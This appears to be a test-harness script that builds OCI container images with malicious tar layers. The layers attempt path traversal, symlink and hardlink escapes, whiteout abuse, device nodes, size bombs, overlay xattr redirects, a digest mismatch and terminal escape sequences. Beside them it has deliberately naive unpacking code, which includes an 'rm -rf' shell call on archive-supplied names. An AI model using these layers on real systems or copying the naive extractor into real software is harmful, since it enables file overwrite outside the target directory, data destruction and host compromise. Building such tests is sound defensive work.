#!/usr/bin/env python3
"""unpack.py layers DIR: an image of one evil layer for each attack, as an OCI layout below DIR.
unpack.py lie DIR: two images, and a third that calls the blob of one the other's tar.
unpack.py believe STORE LAYOUT: takes it as somebody does who asks only whether the names are there: the control.
unpack.py named DIR NAME...: one image for each name, which it has of its own.
unpack.py naive TAR DIR: unpacks as somebody would who trusts names: the control."""
import hashlib
import io
import json
import os
import sys
import tarfile


def member(name, kind=tarfile.REGTYPE, data=b"", link="", **more):
    m = tarfile.TarInfo(name)
    m.type, m.linkname, m.size, m.mode = kind, link, len(data), 0o755
    for key, value in more.items():
        setattr(m, key, value)
    return m, data


def attacks(victim):
    """Each a list of layers, a layer a list of members."""
    owned = b"owned"
    up = "../" * 20 + victim.lstrip("/")
    link = lambda name, to: member(name, tarfile.SYMTYPE, link=to)
    hard = lambda name, to: member(name, tarfile.LNKTYPE, link=to)
    return {
        "dotdot": [[member(up + "/made", data=owned)]],
        "dotdot-within": [[member("a/../../../" + up + "/made", data=owned)]],
        "absolute": [[member(victim + "/made", data=owned)]],
        "link-out": [[link("out", victim), member("out/made", data=owned)]],
        "link-up": [[link("out", up), member("out/made", data=owned)]],
        "link-between-layers": [[link("out", victim)], [member("out/made", data=owned)]],
        "link-over": [[link("file", victim + "/file"), member("file", data=owned)]],
        "hard-link-out": [[hard("hard", victim + "/file"), member("hard", data=owned)]],
        "hard-link-up": [[hard("hard", up + "/file"), member("hard", data=owned)]],
        "hard-link-through": [[link("out", victim), hard("hard", "out/file"), member("hard", data=owned)]],
        "whiteout-through": [[link("out", victim)], [member("out/.wh.file")]],
        "whiteout-dotdot": [[member("x/.wh...")], [member(up + "/.wh.file")]],
        "opaque-through": [[link("out", victim)], [member("out/.wh..wh..opq")]],
        "mode-through": [[link("out", victim), member("out", tarfile.DIRTYPE, mode=0o777),
                          member("out/sub", tarfile.DIRTYPE, mode=0o777)]],
    }


def bounded():
    """Those that want resources, or things that are not theirs."""
    device = lambda major, minor: member("device", tarfile.CHRTYPE, devmajor=major, devminor=minor)
    return {
        "device": [[device(1, 1)]],
        "forged-whiteout": [[member("file", data=b"x")], [device(0, 0)]],
        "bomb": [[member("bomb", data=b"\0" * (1 << 20), size=1 << 44)]],
        "deep": [[member("/".join(["d"] * 3000), tarfile.DIRTYPE)]],
        "xattr": [[member("file", data=b"x", pax_headers={
            "SCHILY.xattr.trusted.overlay.redirect": "/etc",
            "SCHILY.xattr.user.overlay.redirect": "/etc", "SCHILY.xattr.user.overlay.opaque": "y"})]],
        "duplicates": [[member("file", data=b"%d" % i) for i in range(1000)] +
                       [member("file", tarfile.DIRTYPE), member("file", tarfile.SYMTYPE, link="/etc")]],
    }


def tar(members):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as t:
        for m, data in members:
            out.write(m.tobuf(t.format, t.encoding, t.errors))
            out.write(data + b"\0" * (-len(data) % 512))
            t.offset = out.tell()
    return out.getvalue()


def layout(top, layers, claims=None, name=None, **config):
    os.makedirs(top + "/blobs/sha256")

    def blob(data, media):
        digest = hashlib.sha256(data).hexdigest()
        with open(f"{top}/blobs/sha256/{digest}", "wb") as f:
            f.write(data)
        return {"mediaType": "application/vnd.oci.image." + media, "digest": "sha256:" + digest,
                "size": len(data)}

    tars = [tar(members) for members in layers]
    for i, data in enumerate(tars):
        with open(f"{top}/{i}.tar", "wb") as f:
            f.write(data)
    blobs = [blob(data, "layer.v1.tar") for data in tars]
    config = blob(json.dumps({"architecture": "amd64", "os": "linux", "config": {}, "rootfs": {
        "type": "layers", "diff_ids": claims or [b["digest"] for b in blobs]}, **config}).encode(), "config.v1+json")
    manifest = blob(json.dumps({"schemaVersion": 2, "config": config, "layers": blobs}).encode(),
                    "manifest.v1+json")
    if name:
        manifest["annotations"] = {"org.opencontainers.image.ref.name": name}
    with open(top + "/index.json", "w") as f:
        json.dump({"schemaVersion": 2, "manifests": [manifest]}, f)
    with open(top + "/oci-layout", "w") as f:
        f.write('{"imageLayoutVersion": "1.0.0"}')


def naive(path, to):
    with tarfile.open(path) as t:
        for m in t:
            name = os.path.join(to, m.name)
            base = os.path.basename(name)
            if base == ".wh..wh..opq":
                for old in os.listdir(os.path.dirname(name)):
                    os.system(f"rm -rf '{os.path.dirname(name)}/{old}'")
            elif base.startswith(".wh."):
                os.unlink(os.path.join(os.path.dirname(name), base[4:]))
            elif m.issym():
                os.symlink(m.linkname, name)
            elif m.islnk():
                os.link(os.path.join(to, m.linkname), name)
            elif m.isdir():
                os.makedirs(name, exist_ok=True)
                os.chmod(name, m.mode)
            elif m.isfile():
                os.makedirs(os.path.dirname(name), exist_ok=True)
                with open(name, "wb") as f:
                    f.write(t.extractfile(m).read())


def lie(top):
    one, two = ([[member("who", data=name)]] for name in (b"one", b"two"))
    layout(top + "/one", one)
    layout(top + "/two", two)
    layout(top + "/lie", one, ["sha256:" + hashlib.sha256(tar(two[0])).hexdigest()])
    layout(top + "/loud", one, architecture="\x1b]0;owned\x07", created="\x1b[2J")


def believe(store, top):
    """Layers by their diff ids, blobs by their digests; 0 if the image is taken."""
    read = lambda d: json.load(open(f"{top}/blobs/sha256/{d['digest'][7:]}"))
    manifest = read(json.load(open(top + "/index.json"))["manifests"][0])
    for diff, blob in zip(read(manifest["config"])["rootfs"]["diff_ids"], manifest["layers"]):
        tree, file = f"{store}/layer-{diff}", f"{store}/blob-{blob['digest']}"
        if os.path.exists(tree) and os.path.exists(file):
            continue
        if diff != blob["digest"]:
            return 1
        os.makedirs(tree)
        open(file, "w").close()
    return 0


if sys.argv[1] == "lie":
    lie(sys.argv[2])
elif sys.argv[1] == "believe":
    sys.exit(believe(*sys.argv[2:]))
elif sys.argv[1] == "named":
    for i, name in enumerate(sys.argv[3:]):
        layout(f"{sys.argv[2]}/{i}", [[member("evil", data=b"")]], name=name)
elif sys.argv[1] == "layers":
    for kind in attacks(sys.argv[3]), bounded():
        for name, layers in kind.items():
            layout(f"{sys.argv[2]}/{name}", layers)
    print(*attacks(sys.argv[3]))
else:
    naive(*sys.argv[2:])
